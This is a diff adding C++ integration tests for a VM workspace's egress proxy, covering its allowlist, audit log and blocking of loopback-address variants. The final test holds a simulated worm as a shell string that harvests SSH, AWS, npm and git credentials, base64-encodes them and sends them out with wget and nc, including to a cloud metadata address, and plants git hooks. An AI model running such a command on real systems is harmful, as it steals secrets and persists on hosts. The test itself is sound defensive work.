@@ -1,0 +1,210 @@
+// Egress on real VMs: no NIC; the guest's only way out is the agent's proxy,
+// decided on the host by the allowlist; every attempt is audited. Test
+// servers are on this machine's loopback only.
+#include <arpa/inet.h>
+#include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <filesystem>
+#include <fstream>
+#include <mutex>
+#include <regex>
+#include <thread>
+
+#include "tests/integration/environment.h"
+
+namespace ws::test {
+namespace {
+
+namespace fs = std::filesystem;
+World& W() { return World::Get(); }
+
+// A loopback HTTP server that records every byte it receives.
+class TestServer {
+ public:
+  explicit TestServer(std::string body) : body_(std::move(body)) {
+    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a);
+    socklen_t len = sizeof a;
+    getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
+    port_ = ntohs(a.sin_port);
+    listen(fd_, 16);
+    thread_ = std::thread([this] { Loop(); });
+  }
+  ~TestServer() {
+    stop_ = true;
+    shutdown(fd_, SHUT_RDWR);
+    close(fd_);
+    thread_.join();
+  }
+  int port() const { return port_; }
+  std::string received() {
+    std::lock_guard lock(mu_);
+    return received_;
+  }
+
+ private:
+  void Loop() {
+    while (!stop_) {
+      int c = accept(fd_, nullptr, nullptr);
+      if (c < 0) return;
+      std::string req;
+      char buf[4096];
+      while (req.find("\r\n\r\n") == std::string::npos) {
+        ssize_t n = recv(c, buf, sizeof buf, 0);
+        if (n <= 0) break;
+        req.append(buf, static_cast<size_t>(n));
+      }
+      {
+        std::lock_guard lock(mu_);
+        received_ += req;
+      }
+      std::string resp = "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(body_.size()) + "\r\n\r\n" + body_;
+      send(c, resp.data(), resp.size(), MSG_NOSIGNAL);
+      close(c);
+    }
+  }
+  std::string body_;
+  int fd_ = -1, port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::thread thread_;
+  std::mutex mu_;
+  std::string received_;
+};
+
+RunResult Guest(const std::string& ws, const std::string& script) {
+  return W().Cli({"exec", "--timeout", "60", ws, "--", "sh", "-c", script});
+}
+
+std::string Fetch(const std::string& ws, const std::string& url) {
+  // No -T: busybox 1.35 wget crashes with a timeout through a proxy.
+  return Guest(ws, "wget -q -O- '" + url + "' 2>&1; echo \" rc=$?\"").out;
+}
+
+TEST(Net, OnlyAllowedTargetsAreReachedAndEveryAttemptIsAudited) {
+  TestServer allowed("allowed-body"), denied("denied-body");
+  const std::string a = std::to_string(allowed.port()), d = std::to_string(denied.port());
+  ASSERT_EQ(W().Cli({"create", "net1", "--no-share", "--no-default-allow", "--allow", "127.0.0.1:" + a,
+                     "--allow", "localhost:1"})
+                .code,
+            0);
+  EXPECT_NE(Fetch("net1", "http://127.0.0.1:" + a + "/x").find("allowed-body rc=0"), std::string::npos);
+  // The denied server's address in every spelling, and names not on the list.
+  for (std::string host : {"127.0.0.1", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "[::1]",
+                           "[::ffff:127.0.0.1]", "0.0.0.0", "[::]", "localhost", "github.com"}) {
+    std::string out = Fetch("net1", "http://" + host + ":" + d + "/");
+    EXPECT_EQ(out.find("denied-body"), std::string::npos) << host << ": " << out;
+    EXPECT_NE(out.find("403"), std::string::npos) << host << ": " << out;
+  }
+  auto connect = Guest("net1", "printf 'CONNECT 127.0.0.1:" + d + " HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128");
+  EXPECT_NE(connect.out.find("403"), std::string::npos) << connect.out;
+  // No way around the proxy: no NIC, no route.
+  auto direct = Guest("net1", "nc -w 2 203.0.113.1 80 </dev/null 2>&1; ip link 2>&1 | grep -c ether; true");
+  EXPECT_NE(direct.out.find("unreachable"), std::string::npos) << direct.out;
+  EXPECT_EQ(denied.received(), "") << "a denied server received bytes";
+  EXPECT_NE(allowed.received().find("GET /x HTTP/1.1"), std::string::npos);
+
+  auto audit = W().Cli({"audit", "net1", "--json"});
+  ASSERT_EQ(audit.code, 0);
+  std::istringstream lines(audit.out);
+  std::string line;
+  int allows = 0, denies = 0;
+  while (std::getline(lines, line)) {
+    if (line.find("\"decision\":\"allow\"") != std::string::npos) {
+      ++allows;
+      EXPECT_NE(line.find("\"target\":\"127.0.0.1\",\"port\":" + a), std::string::npos) << line;
+      EXPECT_NE(line.find("\"command\":\"wget"), std::string::npos) << "attributed: " << line;
+    } else if (line.find("\"decision\":\"deny\"") != std::string::npos) {
+      ++denies;
+    }
+  }
+  EXPECT_EQ(allows, 1);
+  EXPECT_EQ(denies, 12);
+  auto table = W().Cli({"audit", "net1"});
+  EXPECT_NE(table.out.find("github.com"), std::string::npos);
+  EXPECT_EQ(W().Cli({"destroy", "-f", "net1"}).code, 0);
+}
+
+TEST(Net, AllowAndRemoveTakeEffectForTheNextConnection) {
+  TestServer server("late-body");
+  const std::string p = std::to_string(server.port());
+  ASSERT_EQ(W().Cli({"create", "net2", "--no-share", "--no-default-allow"}).code, 0);
+  EXPECT_EQ(Fetch("net2", "http://127.0.0.1:" + p + "/").find("late-body"), std::string::npos);
+  ASSERT_EQ(W().Cli({"allow", "net2", "127.0.0.1:" + p}).code, 0);
+  std::string after = Fetch("net2", "http://127.0.0.1:" + p + "/");
+  EXPECT_NE(after.find("late-body rc=0"), std::string::npos) << after << W().Cli({"audit", "net2"}).out;
+  EXPECT_NE(W().Cli({"inspect", "net2"}).out.find("127.0.0.1:" + p + "  from user"), std::string::npos);
+  ASSERT_EQ(W().Cli({"allow", "net2", "--remove", "127.0.0.1:" + p}).code, 0);
+  EXPECT_EQ(Fetch("net2", "http://127.0.0.1:" + p + "/").find("late-body"), std::string::npos);
+  EXPECT_EQ(W().Cli({"allow", "net2", "--remove", "127.0.0.1:" + p}).code, 1) << "not on the list";
+  EXPECT_EQ(W().Cli({"allow", "net2", "bad host"}).code, 2);
+  EXPECT_EQ(W().Cli({"destroy", "-f", "net2"}).code, 0);
+}
+
+TEST(Net, NetNoneHasNoProxyAndDefaultsHoldNoCodeHosts) {
+  ASSERT_EQ(W().Cli({"create", "net3", "--no-share", "--net", "none"}).code, 0);
+  auto r = Guest("net3", "env | grep -ci proxy; nc -w 2 127.0.0.1 3128 </dev/null && echo open || echo closed");
+  EXPECT_EQ(r.out, "0\nclosed\n") << r.out << r.err;
+  EXPECT_EQ(W().Cli({"allow", "net3", "example.org"}).code, 1);
+  EXPECT_EQ(W().Cli({"destroy", "-f", "net3"}).code, 0);
+  ASSERT_EQ(W().Cli({"create", "net4", "--no-share"}).code, 0);
+  auto inspect = W().Cli({"inspect", "net4", "--json"}).out;
+  EXPECT_NE(inspect.find("\"source\":\"ai-apis\""), std::string::npos) << inspect;
+  for (const char* code_host : {"github.com", "gitlab.com", "bitbucket.org"}) {
+    EXPECT_EQ(inspect.find(code_host), std::string::npos) << code_host;
+  }
+  EXPECT_EQ(W().Cli({"destroy", "-f", "net4"}).code, 0);
+}
+
+// A fake install-script worm: reads every secret it can find and tries every
+// way out. Nothing of the host's secrets is in the guest to begin with, and
+// nothing leaves except to the allowed server (which must see no canary).
+TEST(Net, AWormInTheGuestFindsNoSecretAndCannotSendAnythingElsewhere) {
+  const std::string home = W().home();
+  fs::create_directories(home + "/.ssh");
+  fs::create_directories(home + "/.aws");
+  std::ofstream(home + "/.ssh/id_ed25519") << "CANARY-ssh-key";
+  std::ofstream(home + "/.aws/credentials") << "aws_secret_access_key=CANARY-aws";
+  std::ofstream(home + "/.npmrc") << "//registry.npmjs.org/:_authToken=CANARY-home-npmrc";
+  std::ofstream(home + "/.git-credentials") << "https://u:CANARY-git@github.com";
+  std::string project = W().NewFolder("wormy");
+  std::ofstream(project + "/.npmrc") << "_authToken=CANARY-project-npmrc";
+  std::ofstream(project + "/.env") << "TOKEN=CANARY-project-env";
+  fs::create_directories(project + "/.git/hooks");
+  std::ofstream(project + "/package.json") << "{\"name\":\"x\"}";
+  TestServer exfil("ok"), denied("nope");
+  const std::string ep = std::to_string(exfil.port()), dp = std::to_string(denied.port());
+  RunOptions o;
+  o.cwd = project;
+  o.env["GITHUB_TOKEN"] = "CANARY-env-token";
+  o.env["NPM_TOKEN"] = "CANARY-env-npm";
+  ASSERT_EQ(W().Cli({"create", "wormy", "--no-default-allow", "--allow", "127.0.0.1:" + ep}, o).code, 0);
+  std::string worm =
+      "loot=$( (env; cat /workspace/.npmrc /workspace/.env ~/.npmrc ~/.ssh/* ~/.aws/* ~/.git-credentials "
+      "/root/.ssh/* 2>/dev/null; grep -r CANARY / --exclude-dir=proc --exclude-dir=sys 2>/dev/null) | "
+      "base64 | tr -d '\\n'); echo \"found $(echo \"$loot\" | base64 -d 2>/dev/null | grep -c CANARY)\"; "
+      "for t in 127.0.0.1:" + dp + " 127.1:" + dp + " [::1]:" + dp + " github.com:443 0.0.0.0:" + dp +
+      " 169.254.169.254:80; do wget -q -O- \"http://$t/?d=$loot\" >/dev/null 2>&1; done; "
+      "wget -q -O- \"http://127.0.0.1:" + ep + "/?d=$loot\" >/dev/null 2>&1; "
+      "nc -w 2 203.0.113.5 443 </dev/null >/dev/null 2>&1; "
+      "echo '#!/bin/sh\ntouch /tmp/pwned' > /workspace/.git/hooks/post-checkout 2>/dev/null; "
+      "git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null; true";
+  auto r = W().Cli({"exec", "wormy", "--", "sh", "-c", worm}, o);
+  EXPECT_NE(r.out.find("found 0"), std::string::npos) << r.out << r.err;
+  EXPECT_EQ(r.out.find("CANARY"), std::string::npos);
+  EXPECT_EQ(r.err.find("CANARY"), std::string::npos);
+  EXPECT_EQ(denied.received(), "") << "bytes reached a server not on the allowlist";
+  EXPECT_NE(exfil.received().find("GET /?d="), std::string::npos) << "the worm's send did happen";
+  EXPECT_EQ(exfil.received().find("CANARY"), std::string::npos) << "a canary left the guest";
+  EXPECT_FALSE(fs::exists(project + "/.git/hooks/post-checkout")) << "a hook was planted on the host";
+  EXPECT_EQ(W().Cli({"destroy", "-f", "wormy"}).code, 0);
+}
+
+}  // namespace
+}  // namespace ws::test
